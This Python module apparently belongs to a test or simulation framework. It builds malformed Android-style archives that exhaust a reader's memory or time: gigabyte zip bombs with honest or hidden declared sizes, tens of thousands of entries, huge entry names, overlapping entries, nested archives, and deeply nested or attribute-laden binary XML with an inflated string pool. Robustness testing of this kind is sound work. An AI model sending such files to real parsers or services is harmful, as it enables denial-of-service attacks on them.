"""Tricks that would cost a careless reader its memory or its time; each file itself stays small."""

from __future__ import annotations

import struct
import zlib

from luciole.simulate.apps.archive import STORED, Layout, Member, write_archive
from luciole.simulate.apps.binary_xml import NOTHING
from luciole.simulate.apps.string_pool import write_pool
from luciole.simulate.apps.tricks.chunks import Document, attributes, find_start, last_end, with_attributes
from luciole.simulate.apps.tricks.containers import add, manifest_of, replace_manifest
from luciole.simulate.apps.tricks.registry import Stage, on_bytes, on_layout
from luciole.simulate.apps.tricks.xml import on_manifest

MIB = 1 << 20
_GIB_IN_MIB = 1024
_ENTRIES = 65_000
_SHARED = 2_000
_NAMES = 300
_NESTED = 8
_DEPTH = 20_000
_ATTRIBUTES = 60_000
_OFFSETS = 20_000


def deflated_zeros(first: bytes, mebibytes: int) -> bytes:
    """A deflate stream of `first` and then zeros, about 1 kB for each MiB."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = deflate.compress(first) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = again.compress(bytes(MIB)) + again.flush(zlib.Z_FULL_FLUSH)
    return start + block * mebibytes + b"\x03\0"


@on_layout("bomb.manifest")
def manifest(layout: Layout) -> Layout:
    """The manifest inflates to more than a gigabyte, as declared."""
    item = manifest_of(layout)
    declared = {"size": len(item.data) + _GIB_IN_MIB * MIB}
    packed = deflated_zeros(item.data, _GIB_IN_MIB)
    return replace_manifest(layout, item._replace(packed=packed, local=declared, central=declared))


@on_layout("bomb.manifest-hidden")
def manifest_hidden(layout: Layout) -> Layout:
    """The manifest inflates to more than a gigabyte and declares its ordinary size."""
    item = manifest_of(layout)
    return replace_manifest(layout, item._replace(packed=deflated_zeros(item.data, _GIB_IN_MIB)))


@on_layout("bomb.code")
def code(layout: Layout) -> Layout:
    """A DEX file inflates to more than a gigabyte, as declared."""
    count = sum(item.name.endswith(b".dex") for item in layout.members)
    return add(layout, _zeros(b"classes%d.dex" % (count + 1) if count else b"classes.dex"))


@on_layout("bomb.asset")
def asset(layout: Layout) -> Layout:
    """An asset inflates to more than a gigabyte, as declared."""
    return add(layout, _zeros(b"assets/zeros.bin"))


def _zeros(name: bytes) -> Member:
    declared = {"size": _GIB_IN_MIB * MIB}
    return Member(name, b"", packed=deflated_zeros(b"", _GIB_IN_MIB), local=declared, central=declared)


@on_layout("bomb.entries")
def entries(layout: Layout) -> Layout:
    """The archive holds 65,000 empty entries."""
    return add(layout, *(Member(b"assets/%d" % number, b"", STORED) for number in range(_ENTRIES)))


@on_layout("bomb.names")
def names(layout: Layout) -> Layout:
    """The names of 300 entries take 19 MB in the directory."""
    extra = (
        Member((b"assets/%d/" % number).ljust(65_000, b"n"), b"", STORED, local_name=b"n") for number in range(_NAMES)
    )
    return add(layout, *extra)


@on_layout("bomb.overlapping-entries")
def overlapping(layout: Layout) -> Layout:
    """2,000 entries stand for the same bytes, 2 GB when all are inflated."""
    first = len(layout.members)
    true = {"size": MIB, "crc": zlib.crc32(bytes(MIB))}
    shared = Member(b"assets/0.bin", b"", packed=deflated_zeros(b"", 1), local=true, central=true)
    others = (shared._replace(name=b"assets/%d.bin" % number, share=first) for number in range(1, _SHARED))
    return add(layout, shared, *others)


@on_layout("bomb.nested-archives")
def nested(layout: Layout) -> Layout:
    """Archives lie in archives, eight levels deep."""
    inner = b"the innermost file"
    for level in range(_NESTED):
        inner = write_archive(Layout((Member(b"%d.zip" % level, inner, STORED), Member(b"note.txt", b"note")))).join()
    return add(layout, Member(b"assets/nested.zip", inner, STORED))


@on_manifest("bomb.xml-depth")
def xml_depth(document: Document) -> Document:
    """The manifest nests 20,000 elements."""
    at = last_end(document)
    start, end = with_attributes(document.nodes[find_start(document)], []), document.nodes[at]
    nodes = (*document.nodes[:at], *(start,) * _DEPTH, *(end,) * _DEPTH, *document.nodes[at:])
    return document._replace(nodes=nodes)


@on_manifest("bomb.xml-attributes")
def xml_attributes(document: Document) -> Document:
    """An element has 60,000 attributes."""
    root = find_start(document)
    node = document.nodes[root]
    extra = struct.pack("<IIIHBBI", NOTHING, 0, NOTHING, 8, 0, 0x10, 1)
    many = with_attributes(node, attributes(node) + [extra] * _ATTRIBUTES)
    return document._replace(nodes=(*document.nodes[:root], many, *document.nodes[root + 1 :]))


@on_bytes("bomb.shared-string", Stage.RESOURCES)
def shared_string(data: bytes) -> bytes:
    """20,000 strings of the table stand for the same 30,000 characters."""
    pool_size = struct.unpack_from("<I", data, 16)[0]
    pool = data[12 : 12 + pool_size]
    count, _, _, start = struct.unpack_from("<IIII", pool, 8)
    giant = write_pool(["n" * 30_000], utf8=True)[32:]
    texts = pool[start:]
    offsets = pool[28 : 28 + 4 * count] + struct.pack("<I", len(texts)) * _OFFSETS
    new_start = 28 + len(offsets)
    size = new_start + len(texts) + len(giant)
    header = struct.pack("<HHIIIIII", 1, 28, size, count + _OFFSETS, 0, 1 << 8, new_start, 0)
    rest = data[12 + pool_size :]
    return data[:4] + struct.pack("<II", 12 + size + len(rest), 1) + header + offsets + texts + giant + rest
